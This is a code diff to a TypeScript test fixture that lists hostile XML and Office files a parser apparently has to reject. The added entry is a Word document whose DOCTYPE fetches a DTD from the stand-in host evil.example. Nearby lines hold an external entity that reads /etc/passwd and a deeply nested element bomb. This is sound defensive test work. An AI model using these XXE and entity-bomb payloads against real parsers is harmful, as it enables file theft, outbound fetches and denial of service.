@@ -34,6 +34,17 @@ export const xmlBombs: readonly HostileFile[] = [
     make: () => entities('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'),
   },
   {
+    what: 'a document type that is fetched, and no entity of it',
+    is: 'damaged',
+    make: () =>
+      office({
+        'word/document.xml': {
+          ...wordMain(''),
+          content: `<!DOCTYPE d SYSTEM "http://evil.example/d.dtd"><w:document ${namespaces}><w:body>${seen}</w:body></w:document>`,
+        },
+      }),
+  },
+  {
     what: 'a hundred thousand elements in one another',
     is: 'too-large-inside',
     make: () => docx(`${'<w:p>'.repeat(100_000)}${'</w:p>'.repeat(100_000)}`),
